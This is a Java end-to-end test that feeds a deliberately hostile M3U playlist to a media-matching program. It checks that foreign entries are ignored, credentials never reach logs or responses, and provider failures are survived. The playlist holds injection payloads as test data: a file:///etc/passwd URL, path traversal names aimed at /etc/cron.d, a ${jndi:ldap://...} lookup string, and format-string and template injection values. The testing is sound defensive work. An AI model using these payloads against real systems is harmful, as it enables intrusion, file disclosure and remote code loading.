package dev.dromedarr.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.dromedarr.sim.ListText;
import dev.dromedarr.sim.Mishap;
import dev.dromedarr.sim.SimPlaylists;
import dev.dromedarr.sim.SimRadarr;
import dev.dromedarr.sim.Titles;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A playlist that means harm, in the packaged program with everything logged. */
class HostileListIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration LONG = Duration.ofSeconds(90);

    @TempDir
    Path folder;

    private final HttpClient client = HttpClient.newHttpClient();
    private final StringBuilder answers = new StringBuilder();

    @Test
    void nothing_foreign_is_matched_and_no_password_is_told_however_much_goes_wrong() throws Exception {
        try (SimPlaylists provider = new SimPlaylists();
                SimRadarr radarr = new SimRadarr()) {
            provider.start();
            radarr.start();
            Titles.fill(radarr);
            provider.holds(hostile(provider));
            try (Program program =
                    Program.begin(folder, settings(provider, radarr), Program.freePort(), "-XX:TieredStopAtLevel=1")) {
                program.ready();
                await().atMost(LONG)
                        .until(() -> ask(program, "GET", "/playlists")
                                        .path("records")
                                        .path(0)
                                        .path("entries")
                                        .asInt()
                                == 4);
                scan(program);
                List<JsonNode> matches = records(ask(program, "GET", "/matches"));
                assertThat(matches)
                        .extracting(match -> match.path("item").asText())
                        .contains("Big Buck Bunny (2008)");
                assertThat(matches)
                        .extracting(match -> match.path("item").asText())
                        .doesNotContain(
                                "Sintel (2010)",
                                "Tears of Steel (2012)",
                                "Nosferatu (1922)",
                                "Sita Sings the Blues (2008)");
                assertThat(matches).allMatch(match -> match.path("url").asText().startsWith("http://127.0.0.1:"));

                for (Mishap mishap : List.of(
                        Mishap.STATUS_500, Mishap.CUT, Mishap.HTML, Mishap.REDIRECT_TO_FILE, Mishap.REDIRECT_LOOP)) {
                    provider.goesWrong(mishap);
                    String before = lists(program);
                    ask(program, "POST", "/playlists/1/refresh");
                    ask(program, "POST", "/playlists/2/refresh");
                    await().atMost(LONG).until(() -> !lists(program).equals(before));
                }
                provider.stop();
                ask(program, "POST", "/playlists/1/refresh");
                await().atMost(LONG).until(() -> lists(program).contains("cannot be reached"));
                scan(program);
                ask(program, "GET", "/playlists/search?q=bunny");
                ask(program, "GET", "/missing/movies");

                String told = program.log() + answers;
                assertThat(told).contains("TRACE");
                for (String secret : List.of(ListText.USER, ListText.PASSWORD)) {
                    assertThat(told.contains(secret)).as("a secret was told").isFalse();
                }
            }
            assertThat(provider.requests())
                    .allMatch(request -> request.contains(" /get.php")
                            || request.contains(" /moved.m3u")
                            || request.contains(" /player_api.php"));
        }
    }

    private static String hostile(SimPlaylists provider) {
        String mine = "/" + ListText.USER + "/" + ListText.PASSWORD + "/";
        return "#EXTM3U\n"
                + "#EXTINF:-1,Sintel (2010)\nfile:///etc/passwd\n"
                + "#EXTINF:-1,Tears of Steel (2012)\nftp://h.example" + mine + "1.mkv\n"
                + "#EXTINF:-1,Nosferatu (1922)\ngopher://h.example/1.mkv\n"
                + provider.entry("Big Buck Bunny (2008)", "2.mkv")
                + provider.entry("../../../../etc/cron.d/Metropolis (1927)", "3.mkv")
                + provider.entry("..\\..\\Sita Sings the Blues (2008)", "..%2f..%2f4.mkv")
                + provider.entry("Night of\0the Living\u0007Dead (1968)", "5.mkv")
                + provider.entry("%s %n ${jndi:ldap://h.example/x} {0} {{secret-key}}", "6.mkv")
                + "#EXTINF:-1," + "x".repeat(1 << 20) + "\nhttp://h.example" + mine + "7.mkv\n"
                + "#EXTINF:-1,Long address\nhttp://h.example" + mine + "y".repeat(1 << 20) + ".mkv\n";
    }

    private Map<String, String> settings(SimPlaylists provider, SimRadarr radarr) {
        Map<String, String> settings = Engine.settings(folder);
        settings.put("PLAYLIST_URLS", provider.playlist() + "," + provider.account());
        settings.put("RADARR_URL", radarr.url().toString());
        settings.put("RADARR_API_KEY", radarr.apiKey());
        settings.put("LOG_LEVEL", "TRACE");
        settings.put("DROMEDARR_PLAYLIST_IDLE_TIMEOUT", "3s");
        return settings;
    }

    private void scan(Program program) throws Exception {
        ask(program, "POST", "/missing/scan");
        await().atMost(LONG).until(() -> List.of("done", "failed")
                .contains(ask(program, "GET", "/missing/scan").path("state").asText()));
    }

    private String lists(Program program) throws Exception {
        return ask(program, "GET", "/playlists").toString();
    }

    private static List<JsonNode> records(JsonNode page) {
        return StreamSupport.stream(page.path("records").spliterator(), false).toList();
    }

    private JsonNode ask(Program program, String method, String path) throws Exception {
        String body = client.send(
                        HttpRequest.newBuilder(program.address("/api/v1" + path))
                                .header("X-Api-Key", Engine.API_KEY)
                                .method(method, BodyPublishers.noBody())
                                .build(),
                        BodyHandlers.ofString())
                .body();
        answers.append(body);
        return JSON.readTree(body);
    }
}
